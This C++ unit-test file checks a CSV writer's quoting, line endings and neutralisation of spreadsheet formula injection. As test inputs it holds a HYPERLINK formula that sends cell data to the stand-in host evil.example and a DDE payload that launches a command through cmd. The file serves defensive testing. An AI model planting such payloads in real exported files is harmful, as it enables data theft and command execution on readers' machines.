#include "common/csv_writer.h"

#include <gtest/gtest.h>

#include <cstdio>
#include <string>
#include <vector>

namespace admin365 {
namespace {

// What CsvWriter writes for `rows`, read back from a memory stream.
std::string Written(const std::vector<std::vector<std::string>>& rows,
                    CsvWriter::LineEnd line_end) {
  char* buffer = nullptr;
  std::size_t size = 0;
  std::FILE* out = ::open_memstream(&buffer, &size);
  CsvWriter csv(out, line_end);
  for (const auto& row : rows) csv.WriteRow(row);
  std::fclose(out);
  std::string text(buffer, size);
  std::free(buffer);
  return text;
}

TEST(CsvWriterTest, QuotesEveryFieldAndDoublesQuotes) {
  EXPECT_EQ(Written({{"a", "b,c", "say \"hi\"", ""}}, CsvWriter::LineEnd::kLf),
            "\"a\",\"b,c\",\"say \"\"hi\"\"\",\"\"\n");
}

TEST(CsvWriterTest, EndsLinesAsAsked) {
  EXPECT_EQ(Written({{"x"}, {"y"}}, CsvWriter::LineEnd::kCrLf), "\"x\"\r\n\"y\"\r\n");
  EXPECT_EQ(Written({{"x"}, {"y"}}, CsvWriter::LineEnd::kLf), "\"x\"\n\"y\"\n");
}

TEST(CsvWriterTest, KeepsLineBreaksInsideAField) {
  EXPECT_EQ(Written({{"Suite 400\nOne Way"}}, CsvWriter::LineEnd::kCrLf),
            "\"Suite 400\nOne Way\"\r\n");
}

// OWASP's list of the characters that start a formula, each neutralised with an apostrophe.
TEST(CsvWriterTest, NeutralisesEachLeadingFormulaCharacter) {
  EXPECT_EQ(Written({{"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"}},
                    CsvWriter::LineEnd::kLf),
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"\n");
  EXPECT_EQ(Written({{"+cmd|' /C calc'!A0"}}, CsvWriter::LineEnd::kLf),
            "\"'+cmd|' /C calc'!A0\"\n");
  EXPECT_EQ(Written({{"-2+3"}}, CsvWriter::LineEnd::kLf), "\"'-2+3\"\n");
  EXPECT_EQ(Written({{"@SUM(1+1)"}}, CsvWriter::LineEnd::kLf), "\"'@SUM(1+1)\"\n");
  EXPECT_EQ(Written({{"\t=1"}}, CsvWriter::LineEnd::kLf), "\"'\t=1\"\n");
  EXPECT_EQ(Written({{"\r=1"}}, CsvWriter::LineEnd::kLf), "\"'\r=1\"\n");
}

TEST(CsvWriterTest, LeavesOtherFieldsAlone) {
  EXPECT_EQ(Written({{"a=b", " =1", "'=quoted", "1-2", "adele@contoso.com"}},
                    CsvWriter::LineEnd::kLf),
            "\"a=b\",\" =1\",\"'=quoted\",\"1-2\",\"adele@contoso.com\"\n");
}

TEST(CsvWriterTest, BeginsLikeFormula) {
  for (const char* field : {"=", "+1 425 555 0100", "-", "@x", "\tx", "\rx"}) {
    EXPECT_TRUE(BeginsLikeFormula(field)) << field;
  }
  for (const char* field : {"", "a", "'=", " =", "1", "\n="}) {
    EXPECT_FALSE(BeginsLikeFormula(field)) << field;
  }
}

TEST(CsvWriterTest, RestoreUndoesNeutraliseAndNothingElse) {
  for (const char* value : {"=1", "+1 425 555 0100", "-x", "@y", "\tz", "\rw"}) {
    EXPECT_EQ(RestoreNeutralisedFormula(NeutraliseFormula(value)), value) << value;
  }
  EXPECT_EQ(RestoreNeutralisedFormula("'quoted"), "'quoted");
  EXPECT_EQ(RestoreNeutralisedFormula("'"), "'");
  EXPECT_EQ(RestoreNeutralisedFormula("O'Brien"), "O'Brien");
  EXPECT_EQ(RestoreNeutralisedFormula("plain"), "plain");
}

}  // namespace
}  // namespace admin365
